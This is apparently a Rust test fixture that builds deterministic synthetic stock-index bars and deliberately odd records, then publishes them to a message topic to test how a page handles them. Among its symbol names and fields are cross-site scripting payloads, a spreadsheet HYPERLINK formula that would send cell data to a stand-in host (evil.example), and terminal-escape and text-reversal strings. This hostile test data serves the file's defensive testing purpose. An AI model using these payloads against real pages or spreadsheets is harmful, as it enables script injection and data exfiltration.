//! Bars that are hard on a page: many, few, flat, wrong, with names that are markup or do not end.

use std::fmt::Write as _;
use std::fs::{self, File};
use std::process::Command;

use anyhow::{Context as _, Result, ensure};
use chrono::{Datelike as _, Days, NaiveDate, Weekday};
use local::Stack;
use serde_json::{Value, json};
use tests::built;

/// Business days of each symbol.
const DAYS: usize = 320;

/// Name, first close, size of a daily move in percent, in USD per unit.
const SYMBOLS: [(&str, f64, f64, f64); 11] = [
    ("HSI", 24_000.0, 1.4, 0.128),
    ("IXIC", 13_500.0, 1.2, 1.0),
    ("N225", 28_500.0, 1.0, 0.0091),
    ("<script>alert(1)</script>", 12.5, 3.0, 1.0),
    ("A-NAME-THAT-IS-MUCH-LONGER-THAN-ANY-SYMBOL-OUGHT-TO-BE", 0.0135, 6.0, 1.2),
    ("FLAT & <b>STILL</b>", 100.0, 0.0, 1.0),
    ("ÅÄÖ株", 1_234_567.0, 0.7, 0.000_65),
    (FORMULA, 50.0, 1.1, 1.0),
    (UNSEEN, 60.0, 1.3, 1.0),
    ("تاسي", 11_000.0, 0.9, 0.27),
    (
        "日経平均株価指数先物日経平均株価指数先物日経平均株価指数先物日経平均株価指数先物日経平均株価指数先物\
         Z\u{300}\u{301}\u{302}\u{303}\u{304}\u{305}\u{306}\u{307}\u{308}\u{309}\u{30a}\u{30b}",
        39_000.0,
        1.2,
        0.0065,
    ),
];

/// What a spreadsheet would run.
pub(crate) const FORMULA: &str = "=HYPERLINK(\"http://evil.example/?\"&A2,\"x\")";

/// What a terminal would obey, and what turns the text behind it round.
pub(crate) const UNSEEN: &str = "NUL\0ESC\u{1b}[31m\u{202e}gnp";

/// Publishes them, and some records that are none.
pub(crate) fn publish(stack: &Stack) -> Result<()> {
    let mut lines = String::new();
    for (number, symbol) in SYMBOLS.iter().enumerate() {
        for bar in bars(number, *symbol) {
            writeln!(lines, "{bar}")?;
        }
    }
    for bar in within_a_day() {
        writeln!(lines, "{bar}")?;
    }
    for wrong in oddities() {
        writeln!(lines, "{wrong}")?;
    }
    let file = stack.folder().log("bars").with_extension("jsonl");
    fs::write(&file, lines)?;
    let published = Command::new(built("producer"))
        .args(["--bootstrap-servers", stack.bootstrap_servers(), "--topic", stack.topic(), "--stdin"])
        .stdin(File::open(&file)?)
        .output()
        .context("cannot run the producer")?;
    ensure!(published.status.success(), "the producer failed: {}", String::from_utf8_lossy(&published.stderr));
    Ok(())
}

/// A walk that is the same each time.
fn bars(number: usize, (symbol, first_close, percent, usd): (&str, f64, f64, f64)) -> Vec<Value> {
    let mut close = first_close;
    let mut state = u64::try_from(number).unwrap_or_default() + 1;
    business_days()
        .map(|day| {
            state = state.wrapping_mul(6_364_136_223_846_793_005).wrapping_add(1_442_695_040_888_963_407);
            let share = f64::from(u32::try_from(state >> 33).unwrap_or_default()) / f64::from(u32::MAX >> 1);
            let open = close;
            close *= 1.0 + percent / 100.0 * (2.0 * share - 0.98);
            let (low, high) = (open.min(close) * (1.0 - percent / 400.0), open.max(close) * (1.0 + percent / 400.0));
            json!({
                "Index": symbol, "Date": day.to_string(), "Open": open, "High": high, "Low": low, "Close": close,
                "Adj Close": close, "Volume": 1_000_000 + number * 1_000, "CloseUSD": close * usd,
                "Note": "<img src=x onerror=alert(1)>",
            })
        })
        .collect()
}

/// Five minutes each of a session, with a pause, of a symbol that has no daily bar, of one that has, and of one whose name is not seen.
fn within_a_day() -> impl Iterator<Item = Value> {
    ["MINUTES", "HSI", UNSEEN].into_iter().flat_map(|symbol| {
        (0..78_u32).filter(|place| !(30..36).contains(place)).map(move |place| {
            let (hour, minute) = (9 + (30 + place * 5) / 60, (30 + place * 5) % 60);
            let close = 100.0 + (f64::from(place) / 7.0).sin() * 3.0;
            let open = 100.0 + (f64::from(place + 1) / 7.0).sin() * 3.0;
            json!({
                "Index": symbol, "Date": format!("2026-03-20T{hour:02}:{minute:02}:00-04:00"), "Interval": "5m", "Open": open,
                "High": open.max(close) + 0.4, "Low": open.min(close) - 0.3, "Close": close, "Volume": 1_000 + place,
            })
        })
    })
}

/// One bar of a symbol, a bar that cannot be, a day twice, a jump; and values that are no bars.
fn oddities() -> Vec<String> {
    let bar = |symbol: &str, day: &str, high: f64, low: f64, close: f64| {
        json!({ "Index": symbol, "Date": day, "Open": close, "High": high, "Low": low, "Close": close, "Volume": 0 })
            .to_string()
    };
    vec![
        bar("ONE", "2026-03-02", 11.0, 9.0, 10.0),
        bar("ODD", "2026-03-02", 9.0, 11.0, 10.0),
        bar("ODD", "2026-03-03", 11.0, 9.0, 12.0),
        bar("ODD", "2026-03-03", 16.0, 9.0, 15.0),
        bar("ODD", "2026-03-20", 3.0, 1.0, 2.0),
        r#"{"Index":"NO-DATE"}"#.to_owned(),
        "NaN".to_owned(),
    ]
}

fn business_days() -> impl Iterator<Item = NaiveDate> {
    let first = NaiveDate::from_ymd_opt(2025, 1, 2).unwrap_or_default();
    let is_business_day = |day: &NaiveDate| !matches!(day.weekday(), Weekday::Sat | Weekday::Sun);
    (0..).map(move |number| first + Days::new(number)).filter(is_business_day).take(DAYS)
}
